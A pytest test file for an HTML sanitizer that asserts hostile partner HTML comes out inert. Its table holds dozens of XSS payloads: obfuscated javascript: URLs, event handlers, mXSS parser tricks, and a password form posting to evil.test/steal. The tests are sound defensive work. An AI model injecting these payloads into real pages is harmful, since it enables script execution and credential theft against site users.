"""Hostile partner HTML comes out inert, for the page and for the parser (docs/architecture.md section 6;
shared/pages/safehtml.py)."""

from __future__ import annotations

from html.parser import HTMLParser

import pytest

from shared.pages.safehtml import ATTRIBUTES, CLASSES, TAGS, MediaRule, SafeHtml, is_cdn_url, plain_text

CDN = "/cdn"
VIDEO_HOSTS = ["www.youtube.com", "player.vimeo.com"]
BASE = "https://news.example/2026/story.html"

#: (name, hostile fragment). Each must come out with nothing that runs, loads or submits.
XSS_VECTORS = [
    ("script", "<script>alert(1)</script>"),
    ("script-src", '<script src="https://evil.test/x.js"></script>'),
    ("img-onerror", '<img src=x onerror="alert(1)">'),
    ("img-onerror-cdn", '<img src="/cdn/a.jpg" onerror="alert(1)">'),
    ("svg-onload", "<svg onload=alert(1)><circle r=5 /></svg>"),
    ("svg-script", "<svg><script>alert(1)</script></svg>"),
    ("body-onload", "<body onload=alert(1)>text</body>"),
    ("a-javascript", '<a href="javascript:alert(1)">x</a>'),
    ("a-javascript-mixed-case", '<a href="JaVaScRiPt:alert(1)">x</a>'),
    (
        "a-javascript-entity",
        '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;:alert(1)">x</a>',
    ),
    ("a-javascript-hex-entity", '<a href="&#x6A;avascript&#x3A;alert(1)">x</a>'),
    ("a-javascript-tab", '<a href="jav&#x09;ascript:alert(1)">x</a>'),
    ("a-javascript-newline", '<a href="java\nscript:alert(1)">x</a>'),
    ("a-javascript-leading-space", '<a href="  javascript:alert(1)">x</a>'),
    ("a-vbscript", '<a href="vbscript:msgbox(1)">x</a>'),
    ("a-data-html", '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>'),
    ("img-data", '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">'),
    ("style-expression", '<p style="width:expression(alert(1))">x</p>'),
    ("style-tag-import", "<style>@import 'https://evil.test/x.css';</style><p>x</p>"),
    ("style-background-url", '<div style="background:url(https://evil.test/t.png)">x</div>'),
    (
        "form-input",
        '<form action="https://evil.test/steal"><input name=pw type=password><button>Go</button></form>',
    ),
    ("formaction", '<button formaction="javascript:alert(1)">x</button>'),
    ("iframe-evil", '<iframe src="https://evil.test/"></iframe>'),
    ("iframe-javascript", '<iframe src="javascript:alert(1)"></iframe>'),
    ("iframe-userinfo", '<iframe src="https://www.youtube.com@evil.test/embed/x"></iframe>'),
    ("iframe-srcdoc", '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>'),
    ("meta-refresh", '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'),
    ("base-href", '<base href="https://evil.test/"><a href="x">x</a>'),
    ("link-stylesheet", '<link rel="stylesheet" href="https://evil.test/x.css">'),
    ("object", '<object data="https://evil.test/x.swf"></object>'),
    ("embed", '<embed src="https://evil.test/x.swf">'),
    (
        "math-mglyph-style",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    ),
    ("math-href", '<math href="javascript:alert(1)"><mi>x</mi></math>'),
    ("noscript-differential", '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>'),
    ("noembed-differential", '<noembed><p title="</noembed><img src=x onerror=alert(1)>"></noembed>'),
    ("template", "<template><script>alert(1)</script></template>"),
    ("comment-breakout", "<!--<img src=x onerror=alert(1)>-->"),
    ("cdata-trick", "<![CDATA[<img src=x onerror=alert(1)>]]>"),
    ("video-poster-evil", '<video poster="https://evil.test/p.jpg" src="/cdn/v.mp4"></video>'),
    ("video-onerror", '<video src=x onerror="alert(1)"></video>'),
    ("source-onerror", '<video><source src=x onerror="alert(1)"></video>'),
    (
        "picture-srcset",
        '<picture><source srcset="https://evil.test/x.webp"><img src="https://evil.test/x.jpg"></picture>',
    ),
    ("img-srcset", '<img src="/cdn/a.jpg" srcset="https://evil.test/x.jpg 2x">'),
    ("a-target-opener", '<a href="https://ok.example/" target="_blank">x</a>'),
    ("id-clobbering", '<img src="/cdn/a.jpg" id="location" name="cookie"><form id="x"></form>'),
    ("xmp-breakout", "<xmp><img src=x onerror=alert(1)></xmp>"),
    ("unclosed-attribute", '<img src="/cdn/a.jpg" alt="x onerror=alert(1)//'),
    ("null-byte", "<scr\x00ipt>alert(1)</script>"),
    ("cdn-lookalike", '<img src="/cdnevil/x.jpg"><img src="//cdn/x.jpg"><img src="/cdn\\..\\x.jpg">'),
    ("textarea-breakout", "<textarea><img src=x onerror=alert(1)></textarea>"),
    ("select-style", "<select><style><img src=x onerror=alert(1)></style></select>"),
]

_URL_ATTRS = {
    "href",
    "src",
    "poster",
    "action",
    "formaction",
    "data",
    "srcset",
    "background",
    "cite",
    "xlink:href",
}


class _Collector(HTMLParser):
    """An independent tokenizer (Python's, not nh3's) listing every tag and attribute."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, attrs))


def _tokens(out: str) -> list[tuple[str, list[tuple[str, str | None]]]]:
    parser = _Collector()
    parser.feed(out)
    parser.close()
    return [(tag, sorted(attrs, key=lambda a: a[0])) for tag, attrs in parser.tags]


def _assert_inert(out: str, sanitizer: SafeHtml) -> None:
    low = out.lower()
    for needle in (
        "<script",
        "<style",
        "<svg",
        "<math",
        "<form",
        "<input",
        "<button",
        "<object",
        "<embed",
        "<meta",
        "<base",
        "<link",
        "<noscript",
        "<template",
        "<textarea",
        "<xmp",
        "<noembed",
    ):
        assert needle not in low, f"{needle} survived in {out!r}"
    parser = _Collector()
    parser.feed(out)
    parser.close()
    for tag, attrs in parser.tags:
        assert tag in TAGS, f"tag {tag} survived: {out!r}"
        allowed = ATTRIBUTES.get(tag, frozenset()) | ATTRIBUTES["*"]
        fixed = {"rel", "loading", "decoding", "sandbox", "referrerpolicy", "preload", "controls"}
        for name, value in attrs:
            assert not name.startswith("on"), f"event handler {name} on {tag}: {out!r}"
            if name == "class":
                assert value is not None
                assert set(value.split()) <= CLASSES.get(tag, frozenset()), f"class {value} on {tag}: {out!r}"
                continue
            if name == "id":
                assert value is not None
                assert value.startswith("c-"), f"id {value} without the prefix: {out!r}"
            assert name in allowed | fixed, f"attribute {name} on {tag} survived: {out!r}"
            if name in _URL_ATTRS:
                assert value is not None
                if tag == "a":
                    assert value.startswith(("https://", "http://", "mailto:", "tel:")), value
                elif tag == "iframe":
                    assert value.startswith("https://www.youtube.com/") or value.startswith(
                        "https://player.vimeo.com/"
                    ), value
                else:
                    assert is_cdn_url(value, sanitizer.cdn_base), f"non-CDN media {value!r} on {tag}"


@pytest.fixture(scope="module")
def sanitizer() -> SafeHtml:
    return SafeHtml(media=MediaRule.cdn, cdn_base=CDN, video_hosts=VIDEO_HOSTS, page=True)


@pytest.fixture(scope="module")
def source_cleaner() -> SafeHtml:
    """The parser's rule: partner media URLs kept (made absolute) for the media cube to cache."""
    return SafeHtml(media=MediaRule.source, video_hosts=VIDEO_HOSTS)


def test_table_is_big_enough() -> None:
    assert len(XSS_VECTORS) >= 25
    assert len({name for name, _ in XSS_VECTORS}) == len(XSS_VECTORS)


@pytest.mark.parametrize(("name", "fragment"), XSS_VECTORS, ids=[n for n, _ in XSS_VECTORS])
def test_hostile_html_comes_out_inert(sanitizer: SafeHtml, name: str, fragment: str) -> None:
    out = sanitizer.clean(fragment, base_url=BASE)
    _assert_inert(out, sanitizer)
    assert "evil.test" not in out, f"{name}: a hostile URL survived: {out!r}"


@pytest.mark.parametrize(("name", "fragment"), XSS_VECTORS, ids=[n for n, _ in XSS_VECTORS])
def test_sanitizing_is_idempotent(sanitizer: SafeHtml, name: str, fragment: str) -> None:
    once = sanitizer.clean(fragment, base_url=BASE)
    twice = sanitizer.clean(once, base_url=BASE)
    # equal up to attribute order (nh3 appends its fixed attributes after the kept ones)
    assert _tokens(twice) == _tokens(once)


def test_good_content_survives(sanitizer: SafeHtml) -> None:
    fragment = (
        '<h2>Heading</h2><p>Some <b>bold</b>, <em>em</em> and <a href="/next">a link</a>.</p>'
        '<figure><img src="/cdn/img/ab/abc.jpg" alt="A cat" width="640" height="480">'
        "<figcaption>A cat</figcaption></figure><ul><li>one</li></ul>"
        '<table><tr><th colspan="2">h</th></tr><tr><td>1</td><td>2</td></tr></table>'
    )
    out = sanitizer.clean(fragment, base_url=BASE)
    assert '<a href="https://news.example/next" rel="noopener noreferrer nofollow ugc">a link</a>' in out
    assert '<img src="/cdn/img/ab/abc.jpg" alt="A cat" width="640" height="480"' in out
    assert "<figcaption>A cat</figcaption>" in out
    assert '<th colspan="2">h</th>' in out
    assert "<h2>Heading</h2>" in out


def test_allowlisted_video_host_is_kept_and_made_https(sanitizer: SafeHtml) -> None:
    out = sanitizer.clean('<iframe src="http://www.youtube.com/embed/abc?t=1">fallback</iframe>', base_url=BASE)
    assert 'src="https://www.youtube.com/embed/abc?t=1"' in out
    assert 'sandbox="allow-scripts allow-same-origin allow-presentation"' in out
    assert 'referrerpolicy="no-referrer"' in out
    assert "fallback" not in out
    out = sanitizer.clean('<iframe src="//player.vimeo.com/video/1"></iframe>', base_url=BASE)
    assert 'src="https://player.vimeo.com/video/1"' in out


@pytest.mark.parametrize(
    "src",
    ["https://evil.test/a.jpg", "http://news.example/a.jpg", "//evil.test/a.jpg", "a.jpg", "/static/a.jpg"],
)
def test_non_cdn_images_are_removed_not_hotlinked(sanitizer: SafeHtml, src: str) -> None:
    out = sanitizer.clean(f'<p>before<img src="{src}" alt="pic">after</p>', base_url=BASE)
    assert out == "<p>beforeafter</p>"


def test_cached_source_url_is_mapped_to_the_cdn(sanitizer: SafeHtml) -> None:
    out = sanitizer.clean(
        '<img src="https://news.example/a.jpg">',
        base_url=BASE,
        media_map={"https://news.example/a.jpg": "/cdn/img/a.jpg"},
    )
    assert out.startswith('<img src="/cdn/img/a.jpg"')


def test_absolute_cdn_base_is_matched_with_its_slash() -> None:
    s = SafeHtml(media=MediaRule.cdn, cdn_base="https://cdn.example", video_hosts=[])
    assert s.clean('<img src="https://cdn.example/x.jpg">', base_url=BASE).startswith("<img")
    assert s.clean('<img src="https://cdn.example.evil.test/x.jpg">', base_url=BASE) == ""
    assert s.clean('<img src="https://cdn.examplex/x.jpg">', base_url=BASE) == ""


def test_plain_text_separates_blocks_and_unescapes(sanitizer: SafeHtml) -> None:
    out = sanitizer.clean("<p>Tom &amp; Jerry</p><p>second&nbsp;para</p><script>x()</script>", base_url=BASE)
    assert plain_text(out) == "Tom & Jerry\nsecond para"
    assert plain_text("lead <b>bold</b> tail &lt;b&gt;") == "lead bold tail <b>"
    assert plain_text('wor<b>ld</b><p>next</p><a href="x">li</a>nk') == "world\nnext\nlink"


def test_plain_text_keeps_fields_side_by_side_apart() -> None:
    # a Turbo card: its name and its price are two fields (the page's style shows them apart)
    card = '<a class="tc-card" href="/p"><img src="/c.jpg"><span>Чайник, 2 л</span><b>2&nbsp;490&nbsp;₽</b></a>'
    assert plain_text(f'<div class="tc-cards">{card}{card}</div>') == "Чайник, 2 л\n2 490 ₽\nЧайник, 2 л\n2 490 ₽"
    assert plain_text("<h2>Heading</h2>\n  <p>Body  text<br>line two</p>") == "Heading\nBody text\nline two"


@pytest.mark.parametrize(("name", "fragment"), XSS_VECTORS, ids=[n for n, _ in XSS_VECTORS])
def test_hostile_html_comes_out_inert_from_the_parser_too(source_cleaner: SafeHtml, name: str, fragment: str) -> None:
    out = source_cleaner.clean(fragment, base_url=BASE)
    low = out.lower()
    for needle in ("<script", "<style", "<svg", "<math", "<form", "<input", "<button", "<object", "<embed"):
        assert needle not in low, f"{needle} survived in {out!r}"
    for tag, attrs in _tokens(out):
        assert tag in TAGS, f"tag {tag} survived: {out!r}"
        for attr, value in attrs:
            assert not attr.startswith("on"), out
            if attr in ("href", "src", "poster", "srcset") and value:
                assert value.startswith(("https://", "http://", "mailto:", "tel:")), f"{attr}={value!r} on {tag}"
            if tag == "iframe" and attr == "src":
                assert value is not None
                assert value.startswith(("https://www.youtube.com/", "https://player.vimeo.com/")), value


def test_video_embed_is_kept_through_the_parser(source_cleaner: SafeHtml) -> None:
    """The parser removed every iframe, so no embed ever reached the page writer."""
    out = source_cleaner.clean(
        '<p>Watch:</p><iframe src="https://www.youtube.com/embed/abc" width="560" height="315" '
        'allowfullscreen onload="x()"></iframe><iframe src="https://evil.test/x"></iframe>',
        base_url=BASE,
    )
    player = '<iframe src="https://www.youtube.com/embed/abc" width="560" height="315" allowfullscreen=""></iframe>'
    assert player in out
    assert "evil.test" not in out
    assert "sandbox" not in out  # the page's attributes are the page's: added by the kvwriter


def test_one_policy_differs_only_in_media_and_page_attributes(sanitizer: SafeHtml, source_cleaner: SafeHtml) -> None:
    fragment = (
        '<h2 id="top" class="partner tc-sub">T</h2><p class="tc-note">n</p>'
        '<a href="tel:+74950000000" class="tc-btn tc-primary">Call</a><a href="mailto:a@news.example">Write</a>'
        '<details class="tc-acc" open><summary>Q</summary><p>A</p></details>'
        '<img src="/cdn/a.jpg" srcset="/cdn/a.360.webp 360w, https://evil.test/b.jpg 720w" alt="a">'
        '<video src="/cdn/v.mp4" poster="/cdn/p.jpg"></video>'
    )
    page = sanitizer.clean(fragment, base_url=BASE)
    parsed = source_cleaner.clean(fragment, base_url=BASE)
    for out in (page, parsed):
        assert '<h2 id="c-top">T</h2>' in out  # partner classes go, ours stay; ids get the prefix
        assert '<p class="tc-note">n</p>' in out
        assert 'href="tel:+74950000000" class="tc-btn tc-primary"' in out
        assert 'href="mailto:a@news.example"' in out
        assert '<details class="tc-acc" open=""><summary>Q</summary>' in out
    assert 'srcset="/cdn/a.360.webp 360w"' in page  # CDN candidates only on the page
    assert 'srcset="https://news.example/cdn/a.360.webp 360w, https://evil.test/b.jpg 720w"' in parsed
    assert 'controls=""' in page
    assert 'preload="none"' in page
    assert "controls" not in parsed
    assert 'loading="lazy"' in page
    assert "loading" not in parsed


def test_bare_fragment_links_point_into_the_document(source_cleaner: SafeHtml) -> None:
    out = source_cleaner.clean(
        '<a href="#part-2">below</a><a href="#">nowhere</a>',
        base_url="https://news.example/feed.xml",
        page_url="https://news.example/2026/story.html#old",
    )
    assert '<a href="https://news.example/2026/story.html#part-2"' in out
    assert "<a rel=" in out  # "#" alone links nowhere: the link goes, its text stays
